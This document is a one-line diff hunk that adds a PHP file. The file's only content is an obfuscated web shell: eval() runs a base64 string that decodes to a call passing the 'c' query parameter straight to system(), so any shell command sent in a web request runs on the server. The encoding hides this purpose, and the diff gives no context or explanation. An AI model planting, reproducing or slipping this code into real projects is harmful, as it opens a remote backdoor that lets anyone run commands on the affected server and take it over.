@@ -1,0 +1,1 @@
+<?php eval(base64_decode('c3lzdGVtKCRfR0VUWydjJ10pOw==')); ?>
